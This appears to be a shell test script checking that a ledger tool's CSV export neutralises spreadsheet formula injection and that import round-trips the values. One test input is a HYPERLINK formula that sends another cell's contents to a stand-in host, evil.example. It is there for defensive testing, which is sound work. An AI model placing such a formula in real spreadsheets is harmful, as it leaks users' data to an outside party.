# Export safety (SPEC 3): CSV export writes a cell that begins with = + -
# @ TAB or CR with a leading ', so a spreadsheet never runs it (and keeps
# +86... a text); import drops that ' again.
. "$TESTDIR/lib.sh"
new_ledger "$TMP/l"
gd 0 add customer '=HYPERLINK("http://evil.example/?d="&C2,"x")' --id evil --phone "+86 574 8888 1234" --note "@SUM(1)"
gd 0 add customer "Minus Co" --note "-2+3" --city "'quoted"
gd 0 export csv customer
cp "$TMP/out" "$TMP/export.csv"
has "$TMP/export.csv" "^evil,\"'=HYPERLINK\(\"\"http://evil.example/\?d=\"\"&C2,\"\"x\"\"\)\","
has "$TMP/export.csv" ",'\+86 574 8888 1234,"
has "$TMP/export.csv" ",'@SUM\(1\)"
has "$TMP/export.csv" ",'-2\+3"
# a ' before anything else is the user's: kept on both sides
has "$TMP/export.csv" ",'quoted,"

# the round trip: what import reads back is what was stored
mkdir "$TMP/m" && cd "$TMP/m" && new_ledger "$TMP/m/l"
gd 0 import csv "$TMP/export.csv" --kind customer
f=$(ls customers/*/evil.yaml)
has "$f" '^name: =HYPERLINK\("http'
has "$f" "^phone: \"\+86 574 8888 1234\"$"
has "$f" "^note: \"@SUM\(1\)\"$"
gd 0 show "minus co"
has "$TMP/out" "-2\+3"
has "$TMP/out" "'quoted"
done_testing
